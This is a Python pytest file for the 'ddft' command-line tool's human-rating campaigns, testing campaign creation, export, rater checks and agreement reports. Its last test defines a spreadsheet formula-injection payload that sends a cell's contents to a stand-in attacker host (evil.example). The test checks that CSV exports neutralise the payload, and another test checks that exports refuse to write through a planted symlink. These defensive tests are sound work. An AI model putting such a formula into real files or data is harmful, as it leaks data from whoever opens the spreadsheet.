"""`ddft campaign create|list|show|export`, `ddft rate`'s checks before the workbench opens, and
the agreement section of `ddft report`."""

from __future__ import annotations

import csv
import io
import json

import pytest
from typer.testing import CliRunner

from db import campaigns as c
from db.store import session_scope
from engine.cli import rating as rating_cli
from engine.cli.main import app
from tests.rating_store import EVAL_SET, VARIANTS, fill_store

A, B = VARIANTS
runner = CliRunner()
ENV = {"COLUMNS": "200"}


def _ddft(workspace, *args):
    return runner.invoke(app, [*args, "--workspace", str(workspace)], env=ENV)


def _create(workspace, name="duel", *extra):
    return _ddft(workspace, "campaign", "create", name, "--variant", A, "--variant", B,
                 "--eval-set", EVAL_SET, *extra)


def _rate_all(db_engine, campaign, rater, choice="left"):
    with session_scope(db_engine) as session:
        campaign_id = c.get_campaign(session, name=campaign).id
        rater_id = c.get_or_create_rater(session, name=rater).id
    while True:
        with session_scope(db_engine) as session:
            item = c.next_item(session, campaign_id=campaign_id, rater_id=rater_id)
            if item is None:
                return
            c.save_rating(session, assignment_id=item.assignment_id, choice=choice, seconds=2)


def test_create_list_show(ddft_store, ddft_workspace):
    fill_store(ddft_store, samples=4, missing={B: [3]})
    result = _create(ddft_workspace, "duel", "-k", "2", "--seed", "9")
    assert result.exit_code == 0, result.output
    assert "campaign duel: 3 pairwise items over 3 samples (seed 9)" in result.output
    assert "1 sample left out" in result.output
    _rate_all(ddft_store, "duel", "ana")
    listed = _ddft(ddft_workspace, "campaign", "list")
    assert listed.exit_code == 0
    assert "duel" in listed.output and "3 of 6" in listed.output and "0 of 3" in listed.output
    shown = _ddft(ddft_workspace, "campaign", "show", "duel")
    assert shown.exit_code == 0, shown.output
    assert "3 of 6 ratings; 0 of 3 items rated by 2" in shown.output
    assert "ana" in shown.output and f"variants {A}, {B}" in shown.output


def test_create_errors_exit_non_zero_with_one_message(ddft_store, ddft_workspace):
    fill_store(ddft_store, samples=2)
    result = _ddft(ddft_workspace, "campaign", "create", "x", "--variant", A, "--variant",
                   "ghost")
    assert result.exit_code == 1
    assert "no variant named 'ghost'" in result.output and "Traceback" not in result.output
    assert _create(ddft_workspace, "x").exit_code == 0
    again = _create(ddft_workspace, "x")
    assert again.exit_code == 1 and "exists already" in again.output
    unknown = _ddft(ddft_workspace, "campaign", "show", "nope")
    assert unknown.exit_code == 1 and "no campaign named 'nope' (campaigns: x)" in unknown.output


def test_export_to_stdout_and_to_a_file(ddft_store, ddft_workspace, tmp_path):
    fill_store(ddft_store, samples=3)
    assert _create(ddft_workspace, "duel", "--seed", "4").exit_code == 0
    _rate_all(ddft_store, "duel", "ana", choice="tie")
    printed = _ddft(ddft_workspace, "campaign", "export", "duel")
    assert printed.exit_code == 0
    rows = list(csv.DictReader(io.StringIO(printed.output)))
    assert len(rows) == 3 and {r["choice"] for r in rows} == {"tie"}
    assert {frozenset((r["variant"], r["other_variant"])) for r in rows} == {frozenset((A, B))}
    out = tmp_path / "duel.json"
    written = _ddft(ddft_workspace, "campaign", "export", "duel", "--format", "json", "--out",
                    str(out))
    assert written.exit_code == 0 and out.is_file()
    data = json.loads(out.read_text())
    assert data["campaign"]["name"] == "duel" and len(data["ratings"]) == 3
    missing = _ddft(ddft_workspace, "campaign", "export", "duel", "--out",
                    str(tmp_path / "no" / "such" / "f.csv"))
    assert missing.exit_code == 1 and "no folder" in missing.output
    assert not (tmp_path / "no").exists()
    # A symbolic link planted at the output path is refused: its target is left alone.
    target = tmp_path / "real.csv"
    target.write_text("old")
    (tmp_path / "link.csv").symlink_to(target)
    linked = _ddft(ddft_workspace, "campaign", "export", "duel", "--out", str(tmp_path / "link.csv"))
    assert linked.exit_code == 1 and "symbolic link" in linked.output
    assert (tmp_path / "link.csv").is_symlink() and target.read_text() == "old"
    # A replaced file keeps its mode.
    target.chmod(0o600)
    assert _ddft(ddft_workspace, "campaign", "export", "duel", "--out", str(target)).exit_code == 0
    assert target.read_text().startswith("campaign,") and target.stat().st_mode & 0o777 == 0o600
    fresh = tmp_path / "fresh.csv"
    assert _ddft(ddft_workspace, "campaign", "export", "duel", "--out", str(fresh)).exit_code == 0
    assert fresh.stat().st_mode & 0o044  # readable by others under the usual umask
    # A folder given as the file: one line, nothing written.
    folder = _ddft(ddft_workspace, "campaign", "export", "duel", "--out", str(tmp_path))
    assert folder.exit_code == 1 and "is a folder" in folder.output


@pytest.fixture
def opened(monkeypatch):
    """What `ddft rate` would open the workbench on, instead of opening it."""
    calls = []
    monkeypatch.setattr(rating_cli, "open_rating",
                        lambda path, *, rater, campaign: calls.append((rater, campaign)))
    return calls


def test_rate_checks_its_arguments_before_opening_the_workbench(ddft_store, ddft_workspace,
                                                                 opened):
    fill_store(ddft_store, samples=2)
    none_yet = _ddft(ddft_workspace, "rate", "--rater", "ana")
    assert none_yet.exit_code == 1 and "no campaigns yet" in none_yet.output
    blank = _ddft(ddft_workspace, "rate", "--rater", "  ")
    assert blank.exit_code == 1 and "rater name" in blank.output
    assert _create(ddft_workspace, "first").exit_code == 0
    result = _ddft(ddft_workspace, "rate", "--rater", "ana")
    assert result.exit_code == 0, result.output
    assert opened == [("ana", "first")]
    assert _create(ddft_workspace, "second").exit_code == 0
    several = _ddft(ddft_workspace, "rate", "--rater", "ana")
    assert several.exit_code == 1
    assert "2 campaigns have work for ana: first, second; choose one with --campaign" in \
        several.output
    unknown = _ddft(ddft_workspace, "rate", "--rater", "ana", "--campaign", "third")
    assert unknown.exit_code == 1
    assert "no campaign named 'third' (campaigns: first, second)" in unknown.output
    _rate_all(ddft_store, "first", "ana")
    # Only "second" has work left for ana now, so it is chosen for her.
    assert _ddft(ddft_workspace, "rate", "--rater", "ana").exit_code == 0
    assert _ddft(ddft_workspace, "rate", "--rater", "bo", "--campaign", "first").exit_code == 0
    assert opened[1:] == [("ana", "second"), ("bo", "first")]
    with session_scope(ddft_store) as session:
        # Checking arguments writes nothing: bo becomes a rater only on the rating screen.
        assert c.get_rater(session, name="bo") is None


def test_report_prints_the_agreement_of_the_campaigns(ddft_store, ddft_workspace):
    fill_store(ddft_store, samples=3, judge_scores={A: [5.0, 4.0, 1.0], B: [2.0, 2.0, 3.0]})
    assert _create(ddft_workspace, "duel", "--seed", "1").exit_code == 0
    _rate_all(ddft_store, "duel", "ana", choice="left")
    result = _ddft(ddft_workspace, "report", "--eval-set", EVAL_SET)
    assert result.exit_code == 0, result.output
    assert "## Human ratings: duel" in result.output
    assert "| Between raters: Krippendorff's alpha (nominal) | — (items=0) |" in result.output
    assert "Note: alpha: no item was rated by two people yet." in result.output
    chosen = _ddft(ddft_workspace, "report", "--eval-set", EVAL_SET, "--campaign", "duel",
                   "--format", "json")
    assert json.loads(chosen.output)["agreement"][0]["judge"] == "offline (offline, v1)"
    unknown = _ddft(ddft_workspace, "report", "--eval-set", EVAL_SET, "--campaign", "nope")
    assert unknown.exit_code == 1 and "no campaign named 'nope'" in unknown.output


def test_report_with_ratings_but_no_judge_prints_the_ratings(ddft_store, ddft_workspace):
    fill_store(ddft_store, samples=2)
    assert _create(ddft_workspace, "duel", "--mode", "single").exit_code == 0
    with session_scope(ddft_store) as session:
        campaign_id = c.get_campaign(session, name="duel").id
        rater_id = c.get_or_create_rater(session, name="ana").id
        item = c.next_item(session, campaign_id=campaign_id, rater_id=rater_id)
        c.save_rating(session, assignment_id=item.assignment_id, seconds=1,
                      scores={"ingredients": 2, "steps": 3, "overall": 4})
    result = _ddft(ddft_workspace, "report", "--eval-set", EVAL_SET)
    assert result.exit_code == 0, result.output
    assert "human ratings only" in result.output and "## Human ratings: duel" in result.output
    as_csv = _ddft(ddft_workspace, "report", "--eval-set", EVAL_SET, "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(as_csv.output)))
    assert [(r["campaign"], r["human_n"], r["human_overall"]) for r in rows] == [
        ("duel", "1", "4.0000")]


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def test_csv_exports_neutralise_formulas_and_json_stays_exact(ddft_store, ddft_workspace):
    fill_store(ddft_store, samples=2)
    assert _create(ddft_workspace, "@sum", "--mode", "single").exit_code == 0
    with session_scope(ddft_store) as session:
        campaign_id = c.get_campaign(session, name="@sum").id
        rater_id = c.get_or_create_rater(session, name=FORMULA).id
        item = c.next_item(session, campaign_id=campaign_id, rater_id=rater_id)
        c.save_rating(session, assignment_id=item.assignment_id, seconds=1,
                      scores={"ingredients": 2, "steps": 3, "overall": 4})
    exported = _ddft(ddft_workspace, "campaign", "export", "@sum")
    assert exported.exit_code == 0, exported.output
    row = next(csv.DictReader(io.StringIO(exported.output)))
    assert row["rater"] == "'" + FORMULA and row["campaign"] == "'@sum"
    assert row["overall"] == "4" and row["seconds"] == "1.0"
    as_json = _ddft(ddft_workspace, "campaign", "export", "@sum", "--format", "json")
    assert json.loads(as_json.output)["ratings"][0]["rater"] == FORMULA
    report = _ddft(ddft_workspace, "report", "--eval-set", EVAL_SET, "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(report.output)))
    assert rows[0]["campaign"] == "'@sum" and rows[0]["human_overall"] == "4.0000"
